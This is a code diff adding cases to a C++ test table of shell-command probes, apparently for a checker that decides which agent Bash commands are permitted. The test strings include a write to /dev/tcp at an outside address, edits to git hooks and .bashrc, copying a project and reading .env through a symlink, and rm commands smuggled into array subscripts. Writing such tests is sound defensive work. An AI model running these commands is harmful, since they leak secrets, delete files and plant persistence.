@@ -41,6 +41,8 @@ std::vector<probe> probes(const workspace& w) {
         {"Bash", "$CMD -rf x; echo hi > /dev/tcp/203.0.113.5/80", false},
         {"Bash", "echo x > .git/hooks/pre-commit; cp a ~/.bashrc", false},
         {"Bash", "", false},
+        {"Bash", "grep -rn token; rg x . && cp -r . /tmp/q; ln -s . l && cat l/.env", false},
+        {"Bash", "read x < f; for i in 'a[$(rm y)]' {1..3}; do echo $((i + x)) ${a['$(rm z)']} ${!x}; done", false},
         {"shell", "ls -la", false},
         // shell, JSON form
         {"Bash", R"J({"command":"npm test","run_in_background":true,"timeout":600000,"description":"deploy"})J", true},
